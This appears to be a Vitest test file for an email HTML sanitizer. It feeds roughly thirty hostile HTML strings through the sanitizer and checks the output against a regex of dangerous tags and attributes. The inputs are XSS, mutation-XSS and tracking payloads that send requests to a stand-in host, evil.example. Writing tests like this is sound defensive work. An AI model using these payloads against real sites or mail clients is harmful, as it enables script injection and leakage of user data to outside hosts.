import { describe, expect, test } from 'vitest'
import { sanitizeEmail } from './email-html.ts'

const EVIL = 'http://evil.example/hit'
const PREFIX = '<!doctype html><meta charset="utf-8">'
const clean = (html: string) =>
  (sanitizeEmail({ html, placeOf: () => undefined }) ?? '').replace(PREFIX, '')

/** What may be left: tags without an attribute that runs code or fetches anything. */
const HARMFUL =
  /<(?:script|style|iframe|object|embed|svg|math|form|input|meta|base|link|video|audio|template|noscript|details)\b|\son\w+\s*=|\bstyle\s*=|srcset|javascript:|<img[^>]*src="(?!attachment:|data:image\/)/i

describe('hostile HTML', () => {
  test.each([
    `<script>fetch('${EVIL}')</script>`,
    `<script src="${EVIL}"></script>`,
    `<img src=x onerror="new Image().src='${EVIL}'">`,
    `<svg onload="new Image().src='${EVIL}'"></svg>`,
    `<body onload="new Image().src='${EVIL}'">`,
    `<details open ontoggle="new Image().src='${EVIL}'">x</details>`,
    `<input autofocus onfocus="new Image().src='${EVIL}'">`,
    `<a href="javascript:new Image().src='${EVIL}'">click</a>`,
    `<a href="java\nscript:alert(1)">click</a>`,
    `<iframe srcdoc="<script>new Image().src='${EVIL}'</script>"></iframe>`,
    `<object data="${EVIL}"></object><embed src="${EVIL}">`,
    `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
    `<base href="${EVIL}/"><img src="hit">`,
    `<img src="${EVIL}" width=1 height=1>`,
    `<img src="//evil.example/hit">`,
    `<img srcset="${EVIL} 2x">`,
    `<picture><source srcset="${EVIL}"><img></picture>`,
    `<div style="background:url(${EVIL})">x</div>`,
    `<style>@import url(${EVIL})</style><p>x</p>`,
    `<link rel=stylesheet href="${EVIL}">`,
    `<video poster="${EVIL}" src="${EVIL}" autoplay></video>`,
    `<form action="${EVIL}"><input name=a><button>ok</button></form>`,
    `<a href="#" ping="${EVIL}">ping</a>`,
    `<svg><image href="${EVIL}"/><use href="${EVIL}#a"/></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=new/**/Image().src='${EVIL}'&gt;">`,
    `<noscript><p title="</noscript><img src=x onerror=new/**/Image().src='${EVIL}'>">`,
    `<template shadowrootmode=open><script>new Image().src='${EVIL}'</script></template>`,
    `<div style="position:fixed;inset:0">Your session has ended.</div>`,
    `<img src="data:image/svg+xml;base64,PHN2Zz4=">`,
    `<img src="data:text/html,<script>">`,
    `<img src="attachment:0">`,
  ])('of `%s` nothing runs or is fetched', (html) => {
    const left = clean(html)
    expect(left).not.toMatch(HARMFUL)
    expect(left).not.toContain('src="attachment:0"')
    expect(left).not.toContain('svg+xml')
  })

  test('a link opens elsewhere, without a referrer', () => {
    expect(clean('<a href="https://client.example/" target=_top onclick=x>x</a>')).toContain(
      '<a href="https://client.example/" rel="noreferrer noopener" target="_blank">x</a>',
    )
  })

  test('HTML beyond 5 million characters is dropped', () => {
    expect(sanitizeEmail({ html: 'x'.repeat(5_000_001), placeOf: () => undefined })).toBeNull()
  })
})
